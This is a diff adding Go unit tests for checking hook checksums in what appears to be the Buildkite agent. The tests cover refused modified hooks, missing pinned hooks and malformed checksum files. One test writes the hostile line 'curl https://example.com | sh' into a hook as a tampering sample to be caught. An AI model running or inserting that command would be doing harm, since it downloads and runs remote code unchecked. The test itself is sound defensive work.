@@ -0,0 +1,117 @@
+package bootstrap
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/buildkite/agent/v3/shell"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestVerifyHookChecksum(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	globalHook := filepath.Join(dir, "hooks", "pre-command")
+	localHook := filepath.Join(dir, "checkout", ".buildkite", "hooks", "pre-command")
+	for _, path := range []string{globalHook, localHook} {
+		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0755))
+		require.NoError(t, os.WriteFile(path, []byte("echo hello\n"), 0755))
+	}
+
+	sum, err := fileSHA256(globalHook)
+	require.NoError(t, err)
+
+	checksums := filepath.Join(dir, "hook-checksums")
+	require.NoError(t, os.WriteFile(checksums, []byte(fmt.Sprintf(
+		"# Hooks\n%s  global/pre-command\n%s *repository/my-pipeline/pre-command\n", sum, sum,
+	)), 0644))
+
+	b := &Bootstrap{Config: Config{HookChecksumsPath: checksums, PipelineSlug: "my-pipeline"}}
+	assert.NoError(t, b.verifyHookChecksum(HookConfig{Scope: "global", Name: "pre-command", Path: globalHook}))
+	assert.NoError(t, b.verifyHookChecksum(HookConfig{Scope: "local", Name: "pre-command", Path: localHook}))
+
+	// Plugin hooks aren't checked
+	assert.NoError(t, b.verifyHookChecksum(HookConfig{Scope: "plugin", Name: "pre-command", Path: localHook}))
+
+	// A modified hook is refused
+	require.NoError(t, os.WriteFile(localHook, []byte("curl https://example.com | sh\n"), 0755))
+	err = b.verifyHookChecksum(HookConfig{Scope: "local", Name: "pre-command", Path: localHook})
+	assert.ErrorContains(t, err, "it has been modified")
+
+	// As is one for another pipeline, which has no checksum
+	b.PipelineSlug = "other-pipeline"
+	err = b.verifyHookChecksum(HookConfig{Scope: "local", Name: "pre-command", Path: localHook})
+	assert.ErrorContains(t, err, "there's no checksum for repository/other-pipeline/pre-command")
+
+	// Without checksums, everything runs
+	b.HookChecksumsPath = ""
+	assert.NoError(t, b.verifyHookChecksum(HookConfig{Scope: "local", Name: "pre-command", Path: localHook}))
+}
+
+func TestVerifyHookNotMissing(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	sum := strings.Repeat("a", 64)
+	checksums := filepath.Join(dir, "hook-checksums")
+	require.NoError(t, os.WriteFile(checksums, []byte(fmt.Sprintf(
+		"%s  global/environment.ps1\n%s  repository/my-pipeline/pre-command\n", sum, sum,
+	)), 0644))
+
+	b := &Bootstrap{Config: Config{HookChecksumsPath: checksums, PipelineSlug: "my-pipeline"}}
+
+	// A deleted hook that has a checksum fails the job
+	err := b.verifyHookNotMissing("local", "pre-command")
+	assert.ErrorContains(t, err, "repository/my-pipeline/pre-command has a checksum")
+	err = b.verifyHookNotMissing("global", "environment")
+	assert.ErrorContains(t, err, "global/environment.ps1 has a checksum")
+
+	// Hooks without checksums don't have to exist
+	assert.NoError(t, b.verifyHookNotMissing("local", "post-command"))
+	assert.NoError(t, b.verifyHookNotMissing("global", "pre-command"))
+	assert.NoError(t, b.verifyHookNotMissing("local", "pre-command-extra"))
+
+	b.PipelineSlug = "other-pipeline"
+	assert.NoError(t, b.verifyHookNotMissing("local", "pre-command"))
+
+	// Without checksums, nothing's required
+	b.HookChecksumsPath = ""
+	b.PipelineSlug = "my-pipeline"
+	assert.NoError(t, b.verifyHookNotMissing("local", "pre-command"))
+}
+
+func TestExecuteLocalHookFailsWhenPinnedHookIsMissing(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	checksums := filepath.Join(dir, "hook-checksums")
+	require.NoError(t, os.WriteFile(checksums, []byte(strings.Repeat("a", 64)+"  repository/my-pipeline/pre-command\n"), 0644))
+
+	sh, err := shell.New()
+	require.NoError(t, err)
+	sh.Chdir(dir)
+
+	b := &Bootstrap{
+		Config: Config{HookChecksumsPath: checksums, PipelineSlug: "my-pipeline", LocalHooksEnabled: true},
+		shell:  sh,
+	}
+	err = b.executeLocalHook(context.Background(), "pre-command")
+	assert.ErrorContains(t, err, "the hook is missing")
+}
+
+func TestLoadHookChecksumsRejectsInvalidLines(t *testing.T) {
+	t.Parallel()
+
+	path := filepath.Join(t.TempDir(), "hook-checksums")
+	require.NoError(t, os.WriteFile(path, []byte("abc123  global/pre-command\n"), 0644))
+
+	_, err := loadHookChecksums(path)
+	assert.ErrorContains(t, err, "isn't a SHA-256 checksum")
+}